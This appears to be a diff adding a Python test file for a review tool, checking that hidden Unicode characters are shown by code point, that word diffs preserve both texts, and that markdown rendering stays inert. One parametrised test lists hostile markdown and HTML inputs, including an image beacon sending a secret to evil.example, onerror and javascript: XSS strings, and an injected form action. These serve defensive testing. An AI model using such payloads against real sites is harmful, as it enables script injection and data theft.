@@ -1,0 +1,80 @@
+"""Texts as an approver sees them: hidden characters drawn, markdown inert, changes word by word."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from reviews.domain.differences import word_diff
+from reviews.domain.hidden import hidden_names, pieces, spelled_out
+from reviews.templatetags.review_ui import has_markdown, markdown, percent, visible
+
+HIDDEN = ["\u200b", "\u200d", "\u202e", "\u2066", "\ufeff", "\u00ad", "\u3164", "\U000e0041", "\u2028", "\x07", "\r"]
+
+
+@pytest.mark.parametrize("char", HIDDEN, ids=ascii)
+def test_a_hidden_character_is_drawn_by_its_number(char: str) -> None:
+    drawn = visible(f"a{char}b")
+    assert char not in drawn
+    assert f"U+{ord(char):04X}</span>" in drawn
+    assert len(hidden_names(f"a{char}b{char}")) == 1
+
+
+def test_ordinary_texts_of_any_script_are_drawn_as_they_are() -> None:
+    text = "Grüße, 東京\tשלום\nनमस्ते ☕️ 1 234 €"  # noqa: RUF001
+    assert str(visible(text)) == text
+
+
+@given(st.text())
+def test_nothing_of_a_text_is_lost_and_nothing_hidden_stays(text: str) -> None:
+    assert "".join(part for part, _ in pieces(text)) == text
+    assert hidden_names(spelled_out(text)) == []
+
+
+@given(st.text(), st.text())
+def test_a_difference_holds_both_texts(before: str, after: str) -> None:
+    parts = word_diff(before, after)
+    assert "".join(part.text for part in parts if part.op != "added") == before
+    assert "".join(part.text for part in parts if part.op != "removed") == after
+
+
+def test_only_the_words_that_changed_are_marked() -> None:
+    parts = [
+        (part.op, part.text) for part in word_diff("Hello Kim, it leaves today.", "Hello Kim, it leaves tomorrow.")
+    ]
+    assert parts == [("same", "Hello Kim, it leaves "), ("removed", "today"), ("added", "tomorrow"), ("same", ".")]
+
+
+def test_long_texts_are_compared_quickly_by_line() -> None:
+    before = "word and word\n" * 5_000
+    assert [part.op for part in word_diff(before, before + "one more\n")] == ["same", "added"]
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "![pixel](https://evil.example/?secret)",
+        "![pixel](//evil.example/x.png)",
+        "<img src=x onerror=alert(1)>",
+        "[click](javascript:alert(1))",
+        "[click](https://evil.example)",
+        "<https://evil.example>",
+        '<a href="//evil.example" hx-get="/x">a</a>',
+        "</div></form><form action=//evil.example>",
+        "<style>*{display:none}</style>",
+    ],
+)
+def test_markdown_loads_nothing_and_links_nowhere(hostile: str) -> None:
+    drawn = str(markdown(hostile))
+    tags = {part.split(">")[0].split()[0].strip("/") for part in drawn.split("<")[1:]}
+    assert tags <= {"p", "code", "em"}
+    assert "=" not in "".join(part.split(">")[0] for part in drawn.split("<")[1:])
+
+
+def test_markdown_says_where_a_link_would_lead() -> None:
+    assert "our site <code>https://example.org/a</code>" in markdown("See **[our site](https://example.org/a)**.")
+    assert has_markdown("See **this**")
+    assert not has_markdown("Hello Kim,\n\nit is 3 * 4 = 12.\n\nBye")
+
+
+def test_a_share_is_said_in_percent() -> None:
+    assert [percent(share) for share in ("0.62", "1", "", "much")] == ["62%", "100%", "", ""]
